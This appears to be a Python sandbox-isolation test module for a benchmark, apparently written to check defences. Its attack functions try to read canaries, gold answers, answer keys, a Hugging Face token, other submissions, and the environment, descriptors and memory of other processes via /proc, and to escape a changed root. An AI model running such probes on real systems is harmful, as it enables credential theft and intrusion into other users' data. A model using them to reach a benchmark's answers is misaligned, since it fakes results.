"""Attacks that read: the gold, secrets of the caller, other processes, other teams, results."""

# ruff: noqa: PTH111, PTH112, PTH116, PTH123, PTH202, PTH208

from __future__ import annotations

import ctypes
import hashlib
import heapq
import importlib.util
import os
import stat
import sys
import time
from collections.abc import Iterator
from pathlib import Path

from attack import CANARY, HANDED_DOWN, TARGETS, attack, canary_in, canary_of_file, first, pids, strangers

_WALK_S = 1.0
_SMALL = 65_536


@attack
def gold_by_path() -> str | None:
    try:
        return "sha256 " + hashlib.sha256(Path(TARGETS["gold"]).read_bytes()).hexdigest()
    except OSError:
        return None


@attack
def secret_file_of_the_caller() -> str | None:
    return canary_of_file(TARGETS["secret"])


@attack
def token_in_the_home_folder() -> str | None:
    homes = {os.environ.get("HOME", "/"), os.path.expanduser("~"), TARGETS["home"]}
    return first(canary_of_file(Path(home, ".cache/huggingface/token")) for home in homes)


@attack
def file_in_the_hosts_tmp() -> str | None:
    return first(canary_of_file(entry.path) for entry in os.scandir("/tmp") if TARGETS["mark"] in entry.name)


@attack
def file_in_the_hosts_shared_memory() -> str | None:
    return first(canary_of_file(entry.path) for entry in os.scandir("/dev/shm"))


@attack
def another_submission() -> str | None:
    beside = (
        [path for path in Path.cwd().parent.glob("*/*") if path.is_file()] if Path.cwd().parent != Path("/") else []
    )
    return first(canary_of_file(path) for path in [TARGETS["other_submission"], *beside[:200]])


@attack
def results() -> str | None:
    return canary_of_file(TARGETS["results"])


@attack
def gold_of_the_bundled_questions() -> str | None:
    """Whoever mounts our whole package hands over the mini benchmark's key."""
    places = [Path(TARGETS["repository"], "edu_rag")]
    found = importlib.util.find_spec("edu_rag")
    places += [Path(place) for place in (found.submodule_search_locations or [])] if found else []
    places += [Path(place, "edu_rag") for place in sys.path if place]
    for place in places:
        if (keys := place / "mini" / "questions.jsonl").is_file() and b'"answer"' in keys.read_bytes():
            return f"{keys}: {keys.read_bytes().count(b'answer')} answers"
    return None


@attack
def tests_and_data_of_the_repository() -> str | None:
    places = (Path(TARGETS["repository"], name) for name in ("tests", "bench", "leaderboard", "submissions"))
    return first(f"{place}: {len(os.listdir(place))} entries" for place in places if place.is_dir())


def _freshest_files(root: str) -> Iterator[str]:
    """Folders by the time they were last changed: what belongs to this run comes first."""
    heap, seen = [(0.0, root)], set()
    end = time.monotonic() + _WALK_S
    while heap and time.monotonic() < end:
        folder = heapq.heappop(heap)[1]
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                status = entry.stat(follow_symlinks=False)
            except OSError:
                continue
            if stat.S_ISREG(status.st_mode) and status.st_size < _SMALL:
                yield entry.path
            elif stat.S_ISDIR(status.st_mode) and entry.path not in ("/proc", "/sys") and entry.path not in seen:
                seen.add(entry.path)
                heapq.heappush(heap, (-status.st_mtime, entry.path))


@attack
def canary_by_walking_the_file_system() -> str | None:
    return first(canary_of_file(path, _SMALL) for path in _freshest_files(TARGETS["walk"]))


@attack
def gold_tables_by_walking_the_file_system() -> str | None:
    wanted = (path for path in _freshest_files(TARGETS["walk"]) if "/gold/" in path and path.endswith(".parquet"))
    return next((f"{path}: {os.path.getsize(path)} bytes" for path in wanted if os.access(path, os.R_OK)), None)


@attack
def own_environment() -> str | None:
    return canary_in("\n".join(os.environ.values()).encode("utf-8", "surrogateescape"))


@attack
def environment_of_the_first_process() -> str | None:
    pid = TARGETS["pids"][-1] if TARGETS["only_known"] else 1
    return canary_of_file(f"/proc/{pid}/environ")


@attack
def environment_of_other_processes() -> str | None:
    return first(canary_of_file(f"/proc/{pid}/environ") for pid in pids())


@attack
def words_of_other_processes() -> str | None:
    return first(canary_of_file(f"/proc/{pid}/cmdline") for pid in pids())


@attack
def descriptors_that_were_handed_down() -> str | None:
    for handle in range(3, 1024):
        try:
            if found := canary_in(os.pread(handle, _SMALL, 0)):
                return f"descriptor {handle}: {found}"
        except OSError:
            continue
    return None


@attack
def descriptors_of_the_sandbox_itself() -> str | None:
    """Its words, its filter, the pipe on which it reports: forged reports might have others killed."""
    return "; ".join(f"{handle}: {what}" for handle, what in HANDED_DOWN.items()) or None


@attack
def descriptors_of_other_processes() -> str | None:
    for pid in strangers():
        try:
            handles = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for handle in handles:
            try:
                is_file = stat.S_ISREG(os.stat(f"/proc/{pid}/fd/{handle}").st_mode)
            except OSError:
                continue
            if is_file and (found := canary_of_file(f"/proc/{pid}/fd/{handle}")):
                return f"descriptor {handle} of {pid}: {found}"
    return None


@attack
def secrets_by_the_root_of_other_processes() -> str | None:
    return first(canary_of_file(f"/proc/{pid}/root{TARGETS['secret']}") for pid in strangers())


@attack
def secrets_by_the_folder_of_other_processes() -> str | None:
    for pid in strangers():
        try:
            names = os.listdir(f"/proc/{pid}/cwd/")
        except OSError:
            continue
        if found := first(canary_of_file(f"/proc/{pid}/cwd/{name}") for name in names[:200]):
            return found
    return None


@attack
def secrets_by_own_root_and_ancestors() -> str | None:
    """Out of a changed root by `..`, and by the root of our own threads."""
    ups = ["/.." * 8, "/proc/self/root", f"/proc/{os.getppid()}/root", "/proc/thread-self/root", "/oldroot", "/newroot"]
    return first(canary_of_file(up + TARGETS["secret"]) for up in ups)


def _ranges(pid: int) -> Iterator[tuple[int, int]]:
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            words = line.split()
            if words[1].startswith("rw") and (len(words) < 6 or words[5] in ("[heap]", "[stack]")):
                low, high = (int(word, 16) for word in words[0].split("-"))
                yield low, min(high, low + (16 << 20))


def _memory(pid: int) -> str | None:
    try:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for low, high in _ranges(pid):
                memory.seek(low)
                if found := CANARY.search(memory.read(high - low) or b""):
                    return f"memory of {pid}: {found.group().decode()}"
    except (OSError, ValueError, OverflowError):
        return None
    return None


@attack
def memory_of_other_processes() -> str | None:
    return first(_memory(pid) for pid in strangers())


@attack
def sysv_shared_memory_of_the_caller() -> str | None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(TARGETS["sysv_key"], 0, 0)
    if segment < 0:
        return None
    place = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
    return None if place in (None, ctypes.c_void_p(-1).value) else canary_in(ctypes.string_at(place, 64))


@attack
def files_of_the_host_behind_mount_points() -> str | None:
    """Every place that the mount table names is looked into."""
    with open("/proc/self/mountinfo") as table:
        places = {words[4] for words in map(str.split, table)} - {"/", "/proc", "/sys"}
    found = (
        canary_of_file(Path(place, name)) for place in sorted(places) if os.path.isdir(place) for name in _names(place)
    )
    return first(found)


def _names(place: str) -> list[str]:
    try:
        return os.listdir(place)[:500]
    except OSError:
        return []
